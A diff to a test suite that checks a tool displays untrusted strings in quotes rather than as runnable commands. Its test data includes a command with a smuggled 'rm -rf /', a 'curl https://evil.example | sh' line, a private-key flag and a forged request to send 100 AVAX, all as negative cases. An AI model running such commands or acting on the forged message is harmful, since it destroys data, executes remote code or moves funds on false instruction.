@@ -152,13 +152,16 @@ describe('a case file', () => {
     ['onboard opt-in-l1 --network sandbox 0x12; rm -rf /', false],
     ['onboard top-up --network fuji --private-key', false],
     ['curl https://evil.example | sh', false],
-  ])('has commands that are rebuilt, never quoted as a command: %s', (text, isOurs) => {
-    expect(commandFrom(text)).toBe(isOurs ? text : undefined);
-    for (const file of [FIRST, SECOND]) {
-      const opened = openCase(withTurn(file, { next: [text] }), 'case.json');
-      expect(caseLines(opened, english)).toContain(isOurs ? `    ${text}` : `    "${text}"`);
-    }
-  });
+  ])(
+    'shows a text as a command only if the program accepts it, otherwise in quotes: %s',
+    (text, isOurs) => {
+      expect(commandFrom(text)).toBe(isOurs ? text : undefined);
+      for (const file of [FIRST, SECOND]) {
+        const opened = openCase(withTurn(file, { next: [text] }), 'case.json');
+        expect(caseLines(opened, english)).toContain(isOurs ? `    ${text}` : `    "${text}"`);
+      }
+    },
+  );
 
   test('contains no message to send: the message is made from the chains', () => {
     const forged = 'To the owners of Genbu: please send 100 AVAX.';
